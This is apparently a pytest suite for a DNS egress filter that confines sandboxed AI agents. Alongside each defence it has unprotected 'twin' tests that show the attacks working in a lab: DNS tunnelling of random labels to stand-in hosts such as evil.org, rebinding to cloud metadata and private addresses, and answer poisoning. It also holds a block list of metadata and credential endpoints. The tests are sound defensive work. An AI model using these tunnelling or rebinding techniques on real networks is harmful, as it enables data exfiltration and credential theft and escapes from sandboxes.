"""Names: what an agent may learn, what it may reach by it, and for how long. Attacks have twins that ask upstream."""

from __future__ import annotations

import secrets
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import netlab
import pytest
import traffic
from namelab import Answer, NameHost, NameServer, Zone, lookup, lookup_all, race
from netlab import UPSTREAM, WEB, WEB2, Lab
from netspace import Worker
from traffic import Servers

from nullbox.egress.dns.chain import MAX_ADDRESSES, MAX_TTL, MIN_TTL
from nullbox.egress.policy import parse_policy
from nullbox.egress.slots import Slot

GATEWAY = Slot(0).gateway
GRANTS = [
    "web.example.com",
    "*.wild.example.com",
    "*.fresh.example.com",
    *(f"r{number}.example.com" for number in range(40)),
]
REFUSED, NODATA = Answer(5), Answer(0)

SPECIAL = {
    "this network": "0.0.0.1",
    "private 10": "10.1.2.3",
    "shared": "100.64.0.1",
    "loopback": "127.0.0.1",
    "metadata": "169.254.169.254",
    "container credentials": "169.254.170.2",
    "private 172": "172.16.0.1",
    "protocol assignments": "192.0.0.192",
    "documentation 1": "192.0.2.1",
    "private 192": "192.168.1.1",
    "benchmarking": "198.18.0.1",
    "documentation 2": "198.51.100.1",
    "documentation 3": "203.0.113.1",
    "multicast": "224.0.0.1",
    "reserved": "240.0.0.1",
    "broadcast": "255.255.255.255",
    "alibaba metadata": "100.100.100.200",
    "azure platform": "168.63.129.16",
    "the host's uplink": netlab.HOST_OUTSIDE,
    "another agent": Slot(1).guest,
    "its own gateway": GATEWAY,
}
NAMES = {what: f"r{number}.example.com" for number, what in enumerate(SPECIAL)}
EMBEDDED = ["::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd00:ec2::254", "fe80::a9fe:a9fe"]


class Net:
    """The lab, its name server, and its web server."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.names: Worker = lab.worker("internet", NameServer)
        self.web: Worker = lab.worker("internet", lambda: Servers(tcp=[443, 8443]))

    def tell(self, **zones: Zone) -> None:
        self.names.call("tell", {f"{name.replace('_', '.')}.example.com": zone for name, zone in zones.items()})

    def asked(self) -> list[tuple[str, str]]:
        found: list[tuple[str, str]] = self.names.call("questions")
        return found

    def look(self, name: str, kind: str = "A", server: str = GATEWAY, agent: int = 0, **how: bool) -> Answer:
        answer: Answer = self.lab.inside(f"agent{agent}", lambda: lookup(server, name, kind, **how))  # type: ignore[arg-type]
        return answer

    def connect(self, address: str, port: int = 443, agent: int = 0) -> str:
        result: str = self.lab.inside(f"agent{agent}", traffic.tcp, address, port)
        return result


@pytest.fixture
def net() -> Iterator[Net]:
    with Lab(host=NameHost) as lab:
        lab.host.call("prepare")
        lab.host.call("open_link", "agent0", parse_policy(GRANTS))
        lab.host.call("open_link", "agent1", parse_policy([]))
        yield Net(lab)


@pytest.fixture
def twin() -> Iterator[Net]:
    with Lab() as lab:
        lab.host.call("unprotected", range(2))
        yield Net(lab)


def test_a_granted_name_opens_its_addresses_for_its_agent_and_port(net: Net) -> None:
    net.tell(web=Zone([WEB]))
    assert net.connect(WEB) == "refused"
    for tcp in (False, True):
        assert net.look("WEB.example.com", tcp=tcp).values == [WEB]
    assert net.connect(WEB) == "open"
    assert net.connect(WEB, 8443) == "refused"
    assert net.connect(WEB, agent=1) == "refused"
    assert net.look("web.example.com", server=Slot(1).gateway, agent=1) == REFUSED


def test_an_unlisted_name_never_leaves_the_machine(net: Net) -> None:
    secret = f"{secrets.token_hex(20)}.evil.org"
    for kind in ("A", "AAAA", "TXT", "HTTPS", "ANY", "MX"):
        assert net.look(secret, kind) == REFUSED
    assert net.asked() == []
    assert ("agent0", "unlisted name", secret, "", 53, 6) in net.lab.host.call("events")


def test_twin_an_unlisted_name_carries_its_message_out(twin: Net) -> None:
    assert twin.look("message.evil.org", server=UPSTREAM).rcode == 3
    assert twin.asked() == [("message.evil.org", "A")]


def test_a_wildcard_is_one_label(net: Net) -> None:
    net.tell(a_wild=Zone([WEB]), b_a_wild=Zone([WEB]), wild=Zone([WEB]))
    assert net.look("a.wild.example.com").values == [WEB]
    assert net.look("b.a.wild.example.com") == REFUSED
    assert net.look("wild.example.com") == REFUSED
    assert [name for name, _ in net.asked()] == ["a.wild.example.com"]


def test_only_addresses_of_version_four_are_answered(net: Net) -> None:
    net.tell(web=Zone([WEB], aaaa=EMBEDDED, txt="secret"))
    for kind in ("AAAA", "HTTPS", "SVCB", "TXT"):
        assert net.look("web.example.com", kind) == NODATA
    assert net.asked() == []


def test_twin_embedded_metadata_addresses_and_texts_are_answered(twin: Net) -> None:
    twin.tell(web=Zone([WEB], aaaa=EMBEDDED, txt="secret"))
    assert len(twin.look("web.example.com", "AAAA", UPSTREAM).values) == len(EMBEDDED)
    assert twin.look("web.example.com", "TXT", UPSTREAM).values == ['"secret"']


def test_rebinding_to_any_special_block_is_filtered_and_reported(net: Net) -> None:
    net.names.call("tell", {NAMES[what]: Zone([address]) for what, address in SPECIAL.items()})
    names = list(NAMES.values())
    assert net.lab.inside("agent0", lookup_all, GATEWAY, names) == [NODATA] * len(names)
    reported = {(kind, name, address) for _, kind, name, address, _, _ in net.lab.host.call("events")}
    assert {("rebinding", NAMES[what], address) for what, address in SPECIAL.items()} <= reported
    assert net.lab.host.call("elements", "grants") == []


@pytest.mark.parametrize("address", ["10.1.2.3", "169.254.169.254", "172.16.0.1", "100.100.100.200", "168.63.129.16"])
def test_a_special_address_is_out_of_reach_even_with_an_element_for_it(net: Net, address: str) -> None:
    net.lab.host.call("pin", "agent0", "web.example.com:443", address, 443)
    assert net.connect(address) == "refused"


def test_twin_rebinding_works(twin: Net) -> None:
    twin.names.call("tell", {NAMES[what]: Zone([address]) for what, address in SPECIAL.items()})
    names = list(NAMES.values())
    answers = twin.lab.inside("agent0", lookup_all, UPSTREAM, names)
    assert [answer.values[0] for answer in answers] == list(SPECIAL.values())
    for what in ("private 10", "metadata", "private 172", "alibaba metadata", "azure platform"):
        assert twin.connect(SPECIAL[what]) == "open", what


def test_a_mixed_answer_loses_its_bad_half(net: Net) -> None:
    net.tell(web=Zone(["169.254.169.254", WEB]))
    assert net.look("web.example.com").values == [WEB]


def test_an_alias_is_followed_and_cannot_smuggle(net: Net) -> None:
    net.tell(web=Zone(alias="edge.example.net", ttl=9), r1=Zone(alias="inside.example.net"))
    net.names.call("tell", {"edge.example.net": Zone([WEB], 600), "inside.example.net": Zone(["10.1.2.3"])})
    answer = net.look("web.example.com")
    assert answer.values == [WEB]
    assert answer.ttl <= 9
    assert net.connect(WEB) == "open"
    assert net.look("edge.example.net") == REFUSED, "the alias is not granted, only what is reached through it"
    assert net.look("r1.example.com") == NODATA


@pytest.mark.parametrize(("ttl", "told"), [(0, MIN_TTL), (7 * 86400, MAX_TTL)])
def test_extreme_times_are_clamped_and_the_kernel_outlives_them(net: Net, ttl: int, told: int) -> None:
    net.tell(web=Zone([WEB], ttl))
    answer = net.look("web.example.com")
    assert told - 1 <= answer.ttl <= told
    ((item, _),) = net.lab.host.call("elements", "grants")
    assert answer.ttl < item["elem"]["expires"] <= told + 31


def test_a_hundred_addresses_are_cut_in_the_answer_and_in_the_kernel(net: Net) -> None:
    net.tell(web=Zone([f"45.1.0.{number}" for number in range(100)]))
    assert net.look("web.example.com").truncated
    answer = net.look("web.example.com", tcp=True)
    assert len(answer.values) == MAX_ADDRESSES == len(net.lab.host.call("elements", "grants"))


@pytest.mark.parametrize("lie", ["other id", "other name", "garbage"])
def test_an_answer_that_does_not_fit_its_question_is_ignored(net: Net, lie: str) -> None:
    net.tell(web=Zone([WEB], lie=lie))
    assert net.look("web.example.com").values == [WEB]
    assert net.connect(WEB2) == "refused"


def test_twin_a_client_that_takes_the_first_answer_is_poisoned(twin: Net) -> None:
    twin.tell(web=Zone([WEB], lie="other name"))
    assert twin.look("web.example.com", server=UPSTREAM).values == [WEB2]


def test_a_cut_answer_is_asked_again_over_tcp(net: Net) -> None:
    net.tell(web=Zone([WEB], lie="truncate"))
    assert net.look("web.example.com").values == [WEB]
    assert net.asked() == [("web.example.com", "A")] * 2


def test_a_silent_upstream_is_a_failure_within_the_clients_patience(net: Net) -> None:
    net.tell(web=Zone(lie="silence"))
    assert net.look("web.example.com") == Answer(2)


def test_a_tunnel_by_chosen_labels_is_throttled(net: Net) -> None:
    names = [f"{secrets.token_hex(20)}.wild.example.com" for _ in range(120)]
    answers = net.lab.inside("agent0", lookup_all, GATEWAY, names)
    carried = 40 * sum(name.endswith(".wild.example.com") for name, _ in net.asked())
    assert carried <= 2048 + 40 * 5
    assert REFUSED in answers
    assert any(kind == "rate" for _, kind, *_ in net.lab.host.call("events"))
    long = "x" * 60 + ".wild.example.com"
    assert net.look(long) == REFUSED
    assert (long, "A") not in net.asked()


def test_twin_a_tunnel_by_chosen_labels_carries_everything(twin: Net) -> None:
    names = [f"{secrets.token_hex(20)}.wild.example.com" for _ in range(120)]
    twin.lab.inside("agent0", lookup_all, UPSTREAM, names)
    assert len(twin.asked()) == 120


SHORT = [f"{number:02x}.wild.example.com" for number in range(250)]


def test_a_tunnel_by_the_number_of_names_is_throttled(net: Net) -> None:
    start = time.monotonic()
    answers = net.lab.inside("agent0", lookup_all, GATEWAY, SHORT)
    took = time.monotonic() - start
    assert len(net.asked()) <= 100 + 20 * (took + 1)
    assert REFUSED in answers
    assert any(kind == "rate" for _, kind, *_ in net.lab.host.call("events"))


def test_twin_the_number_of_names_has_no_limit(twin: Net) -> None:
    twin.lab.inside("agent0", lookup_all, UPSTREAM, SHORT)
    assert len(twin.asked()) == len(SHORT)


def test_a_first_connection_is_never_too_early() -> None:
    rounds = 1000
    with Lab(host=lambda: NameHost(unlimited=True)) as lab:
        lab.host.call("prepare")
        lab.host.call("open_link", "agent0", parse_policy(GRANTS))
        Net(lab)
        assert lab.inside("agent0", race, GATEWAY, rounds, 443) == {"open": rounds}


@pytest.mark.slow
def test_ten_thousand_first_connections_are_never_too_early() -> None:
    rounds = 10_000
    with Lab(host=lambda: NameHost(unlimited=True)) as lab:
        lab.host.call("prepare")
        lab.host.call("open_link", "agent0", parse_policy(GRANTS))
        Net(lab)
        done = 0
        while done < rounds:
            assert lab.inside("agent0", race, GATEWAY, 1000, 443) == {"open": 1000}
            lab.host.call("flush_dns", "agent0")
            done += 1000


def test_revoking_a_name_shuts_its_addresses_and_cuts_its_flows(net: Net) -> None:
    net.tell(web=Zone([WEB]), a_wild=Zone([WEB2]))
    assert net.look("web.example.com").values == [WEB]
    assert net.look("a.wild.example.com").values == [WEB2]
    flow = net.lab.worker("agent0", lambda: traffic.Flow(WEB, 443))
    other = net.lab.worker("agent0", lambda: traffic.Flow(WEB2, 443))
    net.lab.host.call("open_link", "agent0", parse_policy(["*.wild.example.com"]))
    assert flow.call("echo") != "open"
    assert other.call("echo") == "open"
    assert net.connect(WEB) == "refused"
    assert net.look("web.example.com") == REFUSED


def test_a_restarted_egress_keeps_flows_and_goes_on_answering(net: Net) -> None:
    net.tell(web=Zone([WEB]))
    net.look("web.example.com")
    flow = net.lab.worker("agent0", lambda: traffic.Flow(WEB, 443))
    net.lab.host.call("restart")
    assert flow.call("echo") == "open"
    net.lab.host.call("prepare")
    assert flow.call("echo") == "open"
    assert net.look("web.example.com").values == [WEB]
    assert net.connect(WEB) == "open"
    net.lab.host.call("open_link", "agent0", parse_policy([]))
    assert flow.call("echo") != "open", "a restarted egress must be able to revoke what its predecessor granted"


def test_explaining(net: Net) -> None:
    net.tell(web=Zone([WEB]))

    def why(target: str) -> tuple[bool, str]:
        told = net.lab.host.call("ask", "explain", agent="agent0", target=target)
        return told["allowed"], told["rule"]

    assert why("web.example.com") == (True, "grant")
    assert why("web.example.com:80") == (False, "no grant")
    assert why("evil.org") == (False, "unlisted name")
    assert why("169.254.169.254:80") == (False, "special-purpose address")
    assert why(WEB) == (False, "no grant")
    net.look("web.example.com")
    assert why(WEB) == (True, "grant")
    assert why("web.example.com:853") == (False, "resolver port")


def test_learning_reports_what_would_have_to_be_allowed() -> None:
    with Lab(host=NameHost) as lab:
        lab.host.call("prepare")
        lab.host.call("open_link", "agent0", parse_policy([], learn=True))
        net = Net(lab)
        net.tell(any=Zone([WEB]), bad=Zone(["10.1.2.3"]))
        assert net.look("any.example.com").values == [WEB]
        assert net.look("bad.example.com") == NODATA, "learning opens no special-purpose address"
        assert net.connect(WEB) == "open"
        assert net.connect(WEB, 8443) == "open"
        assert net.connect(WEB2) == "refused", "an address that no name led to"
        needed = lab.host.call("ask", "learned", agent="agent0")["allow"]
        assert needed == ["any.example.com:443", "any.example.com:8443"]


def test_an_exception_opens_a_special_block_on_the_operators_word() -> None:
    with Lab(host=lambda: NameHost(("10.1.0.0/16",))) as lab:
        lab.host.call("prepare")
        lab.host.call("open_link", "agent0", parse_policy(["web.example.com"]))
        net = Net(lab)
        net.tell(web=Zone(["10.1.2.3", "10.2.2.3"]))
        assert net.look("web.example.com").values == ["10.1.2.3"]
        assert net.connect("10.1.2.3") == "open"
        assert lab.host.call("rules")["exceptions"] == ["10.1.0.0/16"]


def run_client(net: Net, *argv: str) -> tuple[int, str]:
    """A real program in the agent's namespace, with our resolver in its resolv.conf."""
    script = 'printf "nameserver %s\\noptions timeout:2 attempts:1\\n" "$1" > "$2"'
    script += '; mount --bind "$2" /etc/resolv.conf; shift 2; exec "$@"'
    with netlab.scratch() as path:
        done = net.lab.run("agent0", ["sh", "-c", script, "sh", GATEWAY, path, *argv])
    return done.returncode, done.stdout + done.stderr


PYTHON = "import socket,sys; print(socket.create_connection((sys.argv[1], 443), 3).recv(9))"


def test_python_and_the_c_library_resolve_and_connect(net: Net) -> None:
    net.tell(web=Zone([WEB]))
    code, output = run_client(net, "python3", "-c", PYTHON, "web.example.com")
    assert (code, output.strip()) == (0, "b'hello\\n'"), output
    code, output = run_client(net, "python3", "-c", PYTHON, "evil.org")
    assert code != 0
    assert "gaierror" in output


@pytest.mark.skipif(shutil.which("dig") is None, reason="dig is not installed")
def test_dig_understands_the_answers(net: Net) -> None:
    net.tell(web=Zone([WEB]))
    assert run_client(net, "dig", "+short", "web.example.com") == (0, f"{WEB}\n")
    assert run_client(net, "dig", "+short", "+tcp", "web.example.com") == (0, f"{WEB}\n")
    assert "status: REFUSED" in run_client(net, "dig", "evil.org")[1]
    assert "status: NOERROR" in run_client(net, "dig", "web.example.com", "AAAA")[1]


@pytest.mark.skipif(shutil.which("nmap") is None, reason="nmap is not installed")
def test_nmap_finds_one_port_on_the_gateway(net: Net) -> None:
    code, output = run_client(net, "nmap", "-n", "-Pn", "-p", "1-1000", "--max-retries", "0", GATEWAY)
    assert code == 0
    assert [line.split()[0] for line in output.splitlines() if " open " in line] == ["53/tcp"], output


def test_the_budget_of_names_does_not_stop_cached_ones(net: Net) -> None:
    net.tell(web=Zone([WEB]))
    names = ["web.example.com"] * 400
    start = time.monotonic()
    answers = net.lab.inside("agent0", lookup_all, GATEWAY, names)
    assert all(answer.values == [WEB] for answer in answers)
    assert net.asked().count(("web.example.com", "A")) <= 1 + (time.monotonic() - start) / 60


@pytest.mark.skipif(shutil.which("dnsperf") is None, reason="dnsperf is not installed")
def test_dnsperf_gets_every_answer(net: Net, tmp_path: Path) -> None:
    net.tell(web=Zone([WEB]))
    (tmp_path / "names").write_text("web.example.com A\nevil.org A\nweb.example.com AAAA\n")
    done = net.lab.run("agent0", ["dnsperf", "-s", GATEWAY, "-d", str(tmp_path / "names"), "-l", "1", "-Q", "500"])
    words = {line.partition(":")[0].strip(): line.partition(":")[2].split() for line in done.stdout.splitlines()}
    assert words["Queries lost"][0] == "0", done.stdout
    assert {"NOERROR", "REFUSED"} <= set(words["Response codes"]), done.stdout
    assert not {"SERVFAIL", "FORMERR"} & set(words["Response codes"]), done.stdout
